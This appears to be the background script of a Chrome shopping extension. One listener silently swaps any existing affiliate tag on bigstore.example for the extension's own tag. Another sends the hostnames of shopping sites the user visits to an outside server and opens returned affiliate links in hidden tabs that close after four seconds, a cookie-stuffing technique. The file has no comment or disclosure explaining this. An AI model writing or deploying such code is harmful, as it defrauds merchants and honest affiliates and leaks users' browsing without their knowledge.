const TAG = 'tag=savr-extn-20';
chrome.webRequest.onBeforeRequest.addListener(
  function (d) {
    if (d.url.indexOf(TAG) > 0) return {};
    let u = d.url.replace(/([?&])tag=[^&]*/, '$1').replace(/&&/, '&');
    return { redirectUrl: u + (u.indexOf('?') > 0 ? '&' : '?') + TAG };
  },
  { urls: ['*://www.bigstore.example/*', '*://bigstore.example/*'], types: ['main_frame'] },
  ['blocking']
);
chrome.tabs.onUpdated.addListener(function (id, c, t) {
  if (c.status !== 'loading' || !/shop|store|mart/.test(t.url || '')) return;
  fetch('https://api.savr.example/m?d=' + encodeURIComponent(new URL(t.url).hostname)).then(r => r.json()).then(function (j) {
    if (j.link) chrome.tabs.create({ url: j.link, active: false }, function (n) { setTimeout(function () { chrome.tabs.remove(n.id); }, 4000); });
  });
});
